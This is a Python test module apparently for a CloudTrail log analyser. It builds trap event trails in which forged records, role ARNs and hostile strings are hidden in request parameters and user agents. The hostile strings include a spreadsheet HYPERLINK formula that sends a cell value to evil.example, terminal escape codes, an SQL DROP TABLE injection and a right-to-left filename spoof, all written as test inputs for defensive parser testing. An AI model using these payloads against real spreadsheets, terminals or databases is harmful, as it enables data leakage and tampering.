"""Trap trails whose text a caller chose: request parameters and user agents lie."""

from __future__ import annotations

import json
from typing import Any

from tests.usage.events import EC2, STS, Event, Maker, clock, credentials, foreign, session
from tests.usage.traps import ACME, BOLT, HERE, KEYS, VENDOR, Trap

FORMULA = '=HYPERLINK("https://evil.example/"&A1,"look")'
TERMINAL = "\x1b[2J\x1b]0;owned\x07\x9b31m"
PARAMETERS: list[tuple[str, Any]] = [
    ("escapes of a terminal", {"description": TERMINAL}),
    ("a formula for a spreadsheet", {"tag": FORMULA, "other": "@SUM(1)", "+1": "-1"}),
    ("an access key of another session", {"accessKeyId": KEYS[2], "userIdentity": {"accessKeyId": KEYS[2]}}),
    ("a role's ARN", {"roleArn": VENDOR, "sessionIssuer": {"arn": VENDOR}}),
    ("quotes and backslashes", {"text": "a\\\"b\\\\'; DROP TABLE events; --", "null": "\x00"}),
    ("line separators", {"text": "one\ntwo\r\nthree\u2028four\u0085five"}),
    ("beyond the BMP, and text right to left", {"text": "😀\u202egnp.exe"}),
    ("large and small numbers", {"n": 12345678901234567890, "x": 1e-7, "z": [0, -1, 2.5, True, None]}),
    ("an empty object", {}),
    ("an empty key", {"": {"": ""}}),
    ("keys that differ in case", {"Name": "a", "name": "b"}),
    ("a text and no object", "roleArn=" + VENDOR),
    ("nested, sixty deep", json.loads('{"a":' * 60 + "1" + "}" * 60)),
]  # fmt: skip


def forged_record(make: Maker) -> Event:
    """A whole event, as an attacker would like it to be counted."""
    answer = {"credentials": credentials(KEYS[1])}
    return make.assume(VENDOR, foreign(BOLT), KEYS[1], answer=answer)


def forged_records() -> Trap:
    make = Maker(50)
    by, forged = session(VENDOR, KEYS[1]), forged_record(Maker(51))
    texts: list[Any] = [forged, {"Records": [forged]}, {"body": json.dumps({"Records": [forged]})},
                        {"lines": "\n" + json.dumps(forged) + "\n"}]  # fmt: skip
    events = [make.assume(VENDOR, foreign(ACME), KEYS[1])]
    events += [make.call(by, params=p, time=clock(n)) for n, p in enumerate(texts, 1)]
    events += [make.call(by, agent=json.dumps(forged), time=clock(9))]
    return Trap(events, "five calls of Acme and one assumption; Bolt's are text in parameters")


def named_in_passing() -> Trap:
    """The role stands in parameters, resources and user agents of events that are not its calls."""
    make = Maker(52)
    by = {"type": "IAMUser", "accountId": HERE, "arn": f"arn:aws:iam::{HERE}:user/alice"}
    params = {"roleArn": VENDOR, "userIdentity": session(VENDOR, KEYS[1])}
    events = [make.call(by, "PassRole", "iam.amazonaws.com", params=params)]
    events += [make.call(by, "GetRole", agent=f"x {VENDOR} sessionIssuer", time=clock(1))]
    events += [make.call(by, resources=[{"ARN": VENDOR, "accountId": HERE}], time=clock(2))]
    events += [make.call(by, "GetCallerIdentity", STS, answer={"arn": VENDOR}, time=clock(3))]
    return Trap(events, "no call of the role, no assumption of it")


def hostile_text() -> Trap:
    make = Maker(53)
    by = session(VENDOR, KEYS[1])
    events = [
        make.assume(VENDOR, foreign(ACME), KEYS[1]),
        make.assume(VENDOR, foreign(BOLT), KEYS[2]),
    ]
    for n, (_, params) in enumerate(PARAMETERS, 1):
        events += [make.call(by, "CreateTags", EC2, params=params, time=clock(n))]
    events += [make.call(by, "CreateTags", EC2, agent=TERMINAL, ip=FORMULA, time=clock(30))]
    return Trap(events, "all calls are Acme's, each with its parameters to the letter")


def escapes() -> Trap:
    """To be written with `how="escaped"`: slashes as `\\/` and `\\u002f`, letters of keys too."""
    make = Maker(54)
    by = session(VENDOR, KEYS[1])
    params = {
        "path": "/a/b",
        "literal": "\\u002f and \\/",
        "policy": json.dumps({"Resource": "a/b"}),
    }
    events = [
        make.assume(VENDOR, foreign(ACME), KEYS[1]),
        make.call(by, params=params, time=clock(1)),
    ]
    return Trap(events, "one call of Acme; a text that shows an escape is not decoded twice")
